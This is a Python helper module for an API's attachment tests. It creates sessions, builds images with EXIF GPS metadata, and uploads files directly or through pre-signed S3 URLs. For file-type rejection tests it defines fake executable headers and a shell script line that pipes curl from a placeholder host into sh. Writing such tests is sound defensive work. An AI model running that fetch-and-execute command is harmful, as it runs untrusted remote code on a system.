"""Shared by the attachment tests: a session to attach to, and real file bytes."""

from __future__ import annotations

import hashlib
import io
import secrets

import httpx

from tests.trees.factories import valid_tree


def publish_tree(http: httpx.Client, who) -> str:
    r = http.post("/api/v1/trees", headers=who.headers, json=valid_tree())
    assert r.status_code == 201, r.text
    tree_id = r.json()["id"]
    r = http.post(f"/api/v1/trees/{tree_id}/publish", headers=who.headers, json={"change_note": "v1"})
    assert r.status_code in (200, 201), r.text
    return tree_id


def start_session(http: httpx.Client, who, tree_id: str) -> str:
    r = http.post("/api/v1/sessions", headers=who.headers, json={"tree_id": tree_id, "title": "attachments"})
    assert r.status_code == 201, r.text
    return r.json()["session_id"]


def new_id() -> str:
    """A ULID-shaped attachment id (26 Crockford base32 characters)."""
    alphabet = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
    return "01" + "".join(secrets.choice(alphabet) for _ in range(24))


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def png(width: int = 320, height: int = 200, color=(30, 120, 200)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


GPS_LAT = (52.0, 31.0, 12.34)


def jpeg_with_gps(width: int = 64, height: int = 48) -> bytes:
    """A JPEG as a phone camera writes it: EXIF with the camera model and a GPS position."""
    from PIL import Image

    img = Image.new("RGB", (width, height), (200, 60, 40))
    exif = Image.Exif()
    exif[0x0110] = "Phone Camera X"  # Model
    exif[0x8825] = {1: "N", 2: GPS_LAT, 3: "E", 4: (13.0, 24.0, 0.0)}  # GPSInfo
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def exif_of(data: bytes) -> dict:
    from PIL import Image

    with Image.open(io.BytesIO(data)) as img:
        exif = img.getexif()
        return {"tags": dict(exif), "gps": dict(exif.get_ifd(0x8825)), "info_keys": set(img.info)}


def png_with_text_and_exif() -> bytes:
    """A PNG carrying a tEXt comment and an eXIf chunk with a GPS position."""
    from PIL import Image, PngImagePlugin

    img = Image.new("RGB", (40, 30), (10, 200, 10))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "taken at the client's office")
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: GPS_LAT}
    out = io.BytesIO()
    img.save(out, "PNG", pnginfo=info, exif=exif.tobytes())
    return out.getvalue()


# A Windows executable's first bytes (the DOS header of any .exe), named like a screenshot.
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode."
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SHEBANG = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def upload(
    http: httpx.Client,
    who,
    sid: str,
    data: bytes,
    *,
    name: str = "shot.png",
    node_id: str = "scope",
    attachment_id: str | None = None,
    **params,
) -> httpx.Response:
    query = {"name": name, "node_id": node_id, **params}
    if attachment_id is not None:
        query["attachment_id"] = attachment_id
    return http.post(
        f"/api/v1/sessions/{sid}/attachments",
        headers={**who.headers, "Content-Type": "application/octet-stream"},
        params=query,
        content=data,
    )


# --- the pre-signed flow on S3: presign, PUT straight to the bucket, confirm ----------------------


def presign(http: httpx.Client, who, sid: str, data: bytes, **extra) -> httpx.Response:
    body = {
        "node_id": "scope",
        "name": "shot.png",
        "size": len(data),
        "sha256": sha(data),
        "content_type": "image/png",
        **extra,
    }
    return http.post(f"/api/v1/sessions/{sid}/attachments/presign", headers=who.headers, json=body)


def put(answer: dict, data: bytes) -> httpx.Response:
    """The device's PUT, to whatever URL the server signed, with the headers it asked for."""
    up = answer["upload"]
    return httpx.request(up["method"], up["url"], headers=up["headers"], content=data, timeout=30)


def confirm(http: httpx.Client, who, sid: str, att_id: str, **params) -> httpx.Response:
    return http.post(
        f"/api/v1/sessions/{sid}/attachments/{att_id}/confirm", headers=who.headers, params=params
    )
